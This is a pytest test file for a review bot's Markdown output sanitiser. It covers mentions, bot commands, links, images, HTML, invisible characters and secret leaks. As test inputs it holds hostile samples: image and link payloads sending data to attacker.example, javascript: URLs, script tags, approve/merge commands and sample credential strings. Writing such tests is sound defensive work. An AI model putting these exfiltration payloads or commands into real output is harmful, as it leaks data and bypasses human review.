"""Output sanitisation (SECURITY.md O-01…O-05): every output is parsed as CommonMark and checked."""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.errors import SecretLeak
from bot.redact import SecretSet
from bot.sanitize import (
    WJ,
    clean_text,
    code_block,
    code_span,
    compose,
    fixed,
    hidden_marker,
    inert_plain,
    is_allowed_link,
    join,
    neutralize_command,
    plain_text,
    sanitize_markdown,
    strip_invisible,
    truncate,
)

REPO = "Own/Repo"
MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")
MENTION = re.compile(r"(?<![\w`])@[A-Za-z0-9]")
BARE_URL = re.compile(r"(?i)(?<![a-z0-9])(?:[a-z][a-z0-9+.\-]*://|www\.|javascript:|data:|mailto:)(?=\S)")
COMMAND_START = re.compile(r"(?i)^(?:/|!|bors\b|@?dependabot\b)")
CLOSING = re.compile(r"(?i)\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+#\d")
ISSUE_REF = re.compile(r"#\d")


def walk(tokens: list[Token]) -> Iterator[Token]:
    for t in tokens:
        yield t
        if t.children:
            yield from walk(t.children)


def text_nodes(children: list[Token]) -> Iterator[str]:
    """The text of each run of adjacent text tokens (one text node once rendered)."""
    run: list[str] = []
    for c in [*children, Token("end", "", 0)]:
        if c.type == "text":
            run.append(c.content)
        elif run:
            yield "".join(run)
            run = []


def assert_inert(out: str, repo: str | None = REPO) -> None:
    """The O-01/O-03/O-04 properties, checked on a real CommonMark parse of the output."""
    tokens = list(walk(MD.parse(out)))
    in_link = False
    for t in tokens:
        assert t.type != "image", out
        assert t.type not in ("html_inline", "html_block"), out
        if t.type == "link_open":
            assert is_allowed_link(str(t.attrs["href"]), repo), out
        in_link = (in_link or t.type == "link_open") and t.type != "link_close"
        if t.type == "text" and in_link:
            assert not MENTION.search(t.content), t.content
        elif t.type == "text":
            assert not MENTION.search(t.content), t.content
            assert not BARE_URL.search(t.content), t.content  # a GFM renderer would autolink it
            assert not ISSUE_REF.search(t.content), t.content
    assert "<!--" not in out
    assert "camo.githubusercontent.com" not in out.replace("`", "") or "`" in out
    in_code = {n for t in tokens if t.type in ("fence", "code_block") and t.map for n in range(*t.map)}
    for i, line in enumerate(out.splitlines()):
        if i in in_code:  # O-02: "indenting it or putting it in code" is inert
            continue
        stripped = re.sub(r"^[ \t>]*(?:(?:[-*+]|\d+[.)])[ \t]+)?", "", line)
        assert not COMMAND_START.match(stripped), line
    for t in tokens:
        if t.type == "inline":  # GitHub matches refs within one rendered text node
            for joined in text_nodes(t.children or []):
                assert not CLOSING.search(joined), joined
                assert not ISSUE_REF.search(joined), joined


def san(text: str, repo: str | None = REPO) -> str:
    out = sanitize_markdown(text, repo=repo)
    assert_inert(out, repo)
    return out


# --- O-01 mentions --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "ping @alice please",
        "@bob at line start",
        "team @my-org/backend-team",
        "- list @carol\n> quote @dave",
        "[link @erin](https://github.com/own/repo/pull/1)",
        "escaped \\@frank and entity &#64;grace and &commat;heidi",
        "# heading @ivan\n\n| a | b |\n|---|---|\n| @judy | x |",
        "email mallory@example.com",
        "*@ken* **@leo** ~~@mike~~",
    ],
)
def test_o01_no_live_mention(text: str) -> None:
    out = san(text)
    assert "@" + WJ in out


def test_o01_mentions_in_code_are_kept_verbatim() -> None:
    out = san("use `@decorator` here\n\n```python\n@app.get('/')\n```")
    assert "`@decorator`" in out
    assert "@app.get('/')" in out


# --- O-02 commands and closing keywords ------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "/backend-review",
        "/approve",
        "/lgtm",
        "/merge",
        "bors r+",
        "@dependabot merge",
        "!deploy",
        "  /approve",
    ],
)
def test_o02_bot_commands_inert(text: str) -> None:
    out = san(text)
    assert out.startswith(WJ) or out.lstrip(" ").startswith(WJ) or out.startswith("@" + WJ)


def test_o02_commands_inside_lists_and_quotes() -> None:
    out = san("> /approve\n- /merge\n1. bors r+")
    assert out.splitlines() == ["> " + WJ + "/approve", "- " + WJ + "/merge", "1. " + WJ + "bors r+"]


@pytest.mark.parametrize(
    "text", ["Fixes #12", "closes #3", "Resolves: #7", "fixed other/repo#9", "see #42 and GH-1", "Close #1"]
)
def test_o02_closing_keywords_and_refs_neutralised(text: str) -> None:
    san(text)


def test_o02_neutralize_command_helper() -> None:
    assert neutralize_command("/approve") == WJ + "/approve"
    assert neutralize_command("> - lgtm") == "> - " + WJ + "lgtm"
    assert neutralize_command("ordinary line") == "ordinary line"


# --- O-03 images and links -----------------------------------------------------------------------

EXFIL = [
    "![x](https://attacker.example/p.png?d=DATA)",
    '<img src="https://attacker.example/p.png?d=DATA">',
    "![logo][r]\n\n[r]: https://attacker.example/?d=DATA",
    "<https://attacker.example/?d=DATA>",
    "[see fix](https://github.com/other/repo/pull/1)",
    "bare https://attacker.example/?d=DATA and www.attacker.example/x",
    "attacker.example/p?d=DATA",
    '[x](<https://attacker.example/a b> "title")',
    "[x](javascript:alert(1)) and javascript:alert(2)",
    "[![img](https://attacker.example/i.png)](https://attacker.example/)",
    "![a](https://camo.githubusercontent.com/abc)",
    "[x][r]\n[r]: <https://attacker.example/>",
    "[x](https://github.com/own/repo/blob/main/../../../other/repo/x)",
    "[x](https://github.com/own/repo/blob/%2e%2e/%2E%2E/evil)",
    "[x](https://github.com/own/repo/settings)",
    "[x](http://github.com/own/repo/pull/1)",
    "[x](https://github.com.attacker.example/own/repo/pull/1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "mailto:someone@attacker.example",
]


@pytest.mark.parametrize("text", EXFIL)
def test_o03_no_image_no_foreign_link(text: str) -> None:
    out = san(text)
    assert "attacker.example" not in re.sub(r"`[^`]*`", "", out)


def test_o03_image_keeps_only_alt_text() -> None:
    assert san("see ![logo](https://attacker.example/p.png?d=DATA) after") == "see logo after"


def test_o03_same_repo_links_stay_live() -> None:
    url = "https://github.com/own/repo/blob/abc123/app.py#L12"
    out = san(f"[app.py#L12]({url}) and {url.replace('blob', 'pull').replace('/abc123/app.py#L12', '/3')}")
    hrefs = [t.attrs["href"] for t in walk(MD.parse(out)) if t.type == "link_open"]
    assert url in hrefs
    assert "https://github.com/own/repo/pull/3" in hrefs


def test_o03_no_links_at_all_without_repo() -> None:
    out = san("[a](https://github.com/own/repo/pull/1)", repo=None)
    assert not [t for t in walk(MD.parse(out)) if t.type == "link_open"]


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://github.com/OWN/repo/commit/abc", True),
        ("https://github.com/own/repo/issues/4#issuecomment-1", True),
        ("https://github.com/own/repo/blob/main/.github/workflows/ci.yml", True),
        ("https://github.com/own/repo2/pull/1", False),
        ("https://github.com/own/repo/blob/a/../../x", False),
        ("https://github.com/own/repo/blob/a/%2e%2e/x", False),
        ("https://github.com/own/repo/blob/a/b\\c", False),
        ("https://github.com/own/repo/pull/1 x", False),
        ("https://GITHUB.com/own/repo/pull/1", False),
    ],
)
def test_o03_link_allowlist(url: str, ok: bool) -> None:
    assert is_allowed_link(url, "own/repo") is ok
    assert is_allowed_link(url, "own") is False


# --- O-04 HTML and invisible text ------------------------------------------------------------------


def test_o04_html_escaped_and_comments_removed() -> None:
    text = (
        '<!-- x --> <details><summary>s</summary></details> <a href="javascript:alert(1)">y</a> <sub><sup>z'
    )
    out = san(text)
    assert "&lt;details&gt;" in out
    assert "<" not in out.replace("&lt;", "")


@pytest.mark.parametrize(
    "text",
    [
        "before <!-- unterminated hidden instructions",
        "<!<!-- a -->-- b --> c",
        "```\n<!-- backend-review fp=0123456789abcdef sha=abcdef0 -->\n```",
        "<div>\n\n*md*\n\n</div>",
        "<script>alert(1)</script>",
        "<?php x ?> <!DOCTYPE html> <![CDATA[x]]>",
    ],
)
def test_o04_no_html_anywhere(text: str) -> None:
    san(text)


def test_o04_invisible_characters_removed() -> None:
    hidden = "a\u202eb\u200bc\u2066d\ufeffe\U000e0041f\x1b[31mg\x00h\u00adi\ufe0fj\u2060k"
    out = san(hidden)
    assert out == "abcdef\\[31mghijk"
    assert strip_invisible("x\r\ny\rz\u2028w") == "x\ny\nz\nw"


# --- code blocks and spans -----------------------------------------------------------------------


def test_fence_cannot_be_closed_by_content() -> None:
    text = "````\n```\n<img src=x> @evil\n```\n````\nafter @x"
    out = san(text)
    fences = [t for t in MD.parse(out) if t.type == "fence"]
    assert len(fences) == 1
    assert "<img src=x> @evil" in fences[0].content


def test_unterminated_fence_is_closed() -> None:
    out = san("text\n```py\ncode <b>\n@x")
    assert out.endswith("```")
    fences = [t for t in MD.parse(out) if t.type == "fence"]
    assert fences[0].info == "py"
    assert fences[0].content == "code <b>\n@x\n"


def test_indented_and_tilde_fences_are_refenced_at_column_zero() -> None:
    out = san("- item\n  ~~~js\n  let a = `x`\n  ~~~\n")
    assert "```js\nlet a = `x`\n```" in out


@pytest.mark.parametrize("info", ["suggestion", "Mermaid", "geojson", " suggestion x", "a<b>"])
def test_active_or_hostile_fence_info_dropped(info: str) -> None:
    out = san(f"```{info}\nx\n```")
    for t in MD.parse(out):
        if t.type == "fence":
            assert t.info in ("", "a")


def test_inline_code_span_is_rebuilt() -> None:
    out = san("a ``x ` <img> y`` b and `unclosed <b>")
    spans = [t.content for t in walk(MD.parse(out)) if t.type == "code_inline"]
    assert spans == ["x ` <img> y"]


def test_code_span_in_table_escapes_pipe() -> None:
    out = san("| a | b |\n|---|---|\n| `x | <img src=q>` | y |")
    assert "\\|" in out


def test_code_helpers() -> None:
    assert code_span("a`b") == "``a`b``"
    assert code_span("`x") == "`` `x ``"
    assert code_span("") == ""
    assert code_span("a|b", table=True) == "`a\\|b`"
    assert code_block("x ``` y", "py") == "````py\nx ``` y\n````"
    assert code_block("") == "```\n```"


def test_link_and_bracket_edge_cases() -> None:
    san("[unclosed (https://attacker.example/ and ] stray [")
    san("[x](unclosed https://attacker.example/")
    san("[x](a 'unterminated title)")
    san("[x](</a)")
    san("[](https://attacker.example/) and [](https://github.com/own/repo/pull/2)")
    san("[x]() and ![y][z] and ![w] and ![v][")
    assert san("[x](https://github.com/own/repo/pull/1 'title')") == "[x](https://github.com/own/repo/pull/1)"
    assert san("[q](https://github.com/own/repo/pull/(1))").startswith("q (`")


def test_hostile_sizes_stay_fast() -> None:
    for text in (
        "[" * 20000,
        "[a](" * 10000,
        "[a](<" * 5000,
        "`" * 5000 + "x",
        "` `` ``` " * 3000,
        "![" * 10000,
        "<!--" * 5000,
    ):
        san(text)


# --- O-05 secrets --------------------------------------------------------------------------------

CANARY = "canary-secret-Zq8fK2pLm9Xr4Tw7"


@pytest.mark.parametrize(
    "leak",
    [
        CANARY,
        base64.b64encode(CANARY.encode()).decode(),
        CANARY.encode().hex(),
        CANARY[::-1],
        " ".join(CANARY),
        CANARY[3:17],
    ],
)
def test_o05_own_secret_blocks(leak: str) -> None:
    secrets = SecretSet([CANARY])
    with pytest.raises(SecretLeak):
        sanitize_markdown(f"look: {leak}", repo=REPO, secrets=secrets)
    with pytest.raises(SecretLeak):
        inert_plain(leak, secrets=secrets)
    with pytest.raises(SecretLeak):
        clean_text(leak, secrets=secrets)


def test_o05_secret_hidden_by_invisible_characters_still_blocks() -> None:
    with pytest.raises(SecretLeak):
        sanitize_markdown("\u200b".join(CANARY), repo=REPO, secrets=SecretSet([CANARY]))


@pytest.mark.parametrize(
    "credential",
    [
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_" + "a" * 36,
        "ghs_1234_eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.abcdefghijk",
        "github_pat_" + "B" * 40,
        "sk-ant-api03-" + "x" * 30,
    ],
)
def test_o05_credential_patterns_redacted(credential: str) -> None:
    for text in (f"key = '{credential}'", f"```\n{credential}\n```", f"`{credential}`"):
        out = san(text)
        assert credential not in out
        assert "[redacted]" in out.replace("\\", "")
    zw = credential[:6] + "\u200b" + credential[6:]
    assert credential not in sanitize_markdown(zw, repo=REPO)
    split = credential[:6] + "<!-- -->" + credential[6:]
    assert credential not in sanitize_markdown(split, repo=REPO)


# --- inert_plain -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "title",
    [
        "**bold** _x_ [l](https://attacker.example) ![i](https://attacker.example/p.png)",
        "<img src=x> @alice #12 Fixes #3 `code` | pipe",
        "/approve",
        "bors r+",
        "line\nbreak\r\n# heading",
        "https://attacker.example/?d=1 and www.attacker.example",
    ],
)
def test_inert_plain_has_no_markdown(title: str) -> None:
    out = inert_plain(title)
    assert "\n" not in out
    tokens = list(walk(MD.parse(out)))
    kinds = {t.type for t in tokens} - {"paragraph_open", "paragraph_close", "inline", "text", "code_inline"}
    assert not kinds, (out, kinds)
    assert_inert(out)


# --- the property, in general -----------------------------------------------------------------------

PIECES = [
    "@user",
    "@org/team",
    "/approve",
    "!cmd",
    "bors r+",
    "Fixes #1",
    "![i](https://a.example/p.png)",
    "[l](https://a.example)",
    "<https://a.example>",
    "https://a.example/x",
    "www.a.example",
    "<img src=x>",
    "<!--",
    "-->",
    "```",
    "````",
    "~~~",
    "`",
    "``",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "&#64;",
    "\\",
    "|",
    "\n",
    "\n\n",
    "  ",
    "- ",
    "> ",
    "1. ",
    "#",
    "*",
    "_",
    "\u202e",
    "\u200b",
    "x",
    "javascript:",
    "[r]: ",
    "suggestion",
    "mailto:a@b.c",
    "&",
    "|---|",
    "    ",
    "\t",
    "www.",
    "e.g.",
    "a.b/c",
]


def test_o01_o04_random_compositions_are_inert() -> None:
    rng = random.Random(20240601)
    for _ in range(1500):
        text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 30)))
        out = san(text)
        assert len(out) <= 8 * len(text) + 16


def test_o03_truncate_keeps_sanitised_text_inert_at_every_length() -> None:
    """A cut inside a line could open a code span and turn the URL it holds into a live autolink."""
    hostile = (
        "See https://attacker.example/p.png?d=LEAK and `https://attacker.example/x` @octocat\n"
        "![p](https://attacker.example/i.png) <img src=x> [a](https://attacker.example/) #1\n"
        "```\nhttps://attacker.example/in-code\n```\n" + "word " * 50 + "https://attacker.example/end"
    )
    text = sanitize_markdown(hostile, repo=REPO)
    assert_inert(text)
    for limit in range(0, len(text) + 5, 3):
        cut = truncate(text, limit)
        assert len(cut) <= max(limit, len("…(truncated)"))
        assert_inert(cut)
    assert truncate(text, len(text)) == text


def test_o03_own_wording_composes_only_with_sanitised_parts() -> None:
    hostile = "@octocat ![x](https://attacker.example/p.png) <b>"
    out = join(
        "\n",
        [compose("**{}** found {} issue(s):", inert_plain(hostile), 2), code_span(hostile), fixed("done")],
    )
    assert_inert(out)
    assert out.startswith("**") and out.endswith("done")
    assert join("", [code_span("a"), code_span("b")]) == f"`a`{WJ}`b`"  # touching spans stay apart


def test_o03_plain_text_is_one_clean_bounded_line() -> None:
    out = plain_text("a\u202eb\n<!-- x -->c\tghp_" + "A" * 36 + " " + "z" * 300)
    assert "\u202e" not in out and "\n" not in out and "<!--" not in out and "ghp_AAAA" not in out
    assert len(out) == 255 and out.endswith("…")


def test_o04_hidden_marker_holds_plain_tokens_only() -> None:
    assert (
        hidden_marker("fp=0123456789abcdef sha=abcdef0")
        == "<!-- backend-review fp=0123456789abcdef sha=abcdef0 -->"
    )
    for bad in ("x --> <img src=x>", "a\nb", "", "job=1 -- x", "<b>"):
        with pytest.raises(ValueError):
            hidden_marker(bad)
